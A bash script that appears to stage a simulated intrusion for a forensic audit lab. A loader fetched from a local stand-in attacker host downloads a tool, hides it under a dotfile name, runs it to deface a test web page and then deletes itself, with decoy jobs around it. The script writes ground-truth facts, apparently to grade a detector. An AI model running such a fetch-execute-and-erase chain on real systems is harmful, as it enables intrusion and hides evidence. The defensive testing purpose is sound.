#!/usr/bin/env bash
# An intruder who covers their tracks: a loader downloads a tool, renames it to a hidden name,
# runs it (it defaces the web root's index page), then deletes the tool and itself.
# Decoys: a benign job creating and deleting its own temporary files in the same directory, a
# backup that copies the web page (before), a cache warmer that reads the page (after).
#   scripts/lab/audit/cleanup.sh WORKDIR NONCE
. "$(dirname "$0")/lib.sh"
work=$(realpath -m "$1"); nonce=$2
mkdir -p "$work"/{srv,dl,www,backup}
attacker_host 5
trap 'cleanup $http_pid' EXIT
background_noise "$work"

start_http "$work/srv"
cat > "$work/srv/loader.sh" <<STAGE
#!/bin/sh
cd $work/dl
curl -s -o tool.sh $url/tool.sh
mv tool.sh .cache-$nonce
chmod 700 .cache-$nonce
./.cache-$nonce
rm -f .cache-$nonce $work/dl/loader.sh
STAGE
cat > "$work/srv/tool.sh" <<STAGE
#!/bin/sh
echo "<h1>owned $nonce</h1>" > $work/www/index.html
STAGE
echo "<h1>camera</h1>" > "$work/www/index.html"

# Decoys before the attack.
sh -c "cd $work/dl && echo tmp > job.tmp && mv job.tmp job.done && rm job.done"
cp "$work/www/index.html" "$work/backup/index.html"
settle

# The attack.
curl -s -o "$work/dl/loader.sh" "$url/loader.sh"
sh "$work/dl/loader.sh"
settle
detect_at=$(now)
settle

# After: a cache warmer reads the page.
cat "$work/www/index.html" > "$work/backup/index.cached"
settle

cat > "$work/facts.json" <<JSON
{
  "scenario": "cleanup",
  "damaged": $(json_str "$work/www/index.html"),
  "detect_at": $detect_at,
  "entry": "socket:$atk_ip:$http_port",
  "chain": $(json_list "loader.sh $url" "sh $work/dl/loader.sh" "tool.sh $url" "mv tool.sh .cache-$nonce" "chmod 700 .cache-$nonce" "./.cache-$nonce"),
  "decoys": $(json_list "job.tmp" "job.done" "$work/backup/index.html" "index.cached"),
  "modified": $(json_list "$work/dl/loader.sh" "$work/dl/.cache-$nonce" "$work/www/index.html")
}
JSON
end_marker "$nonce"
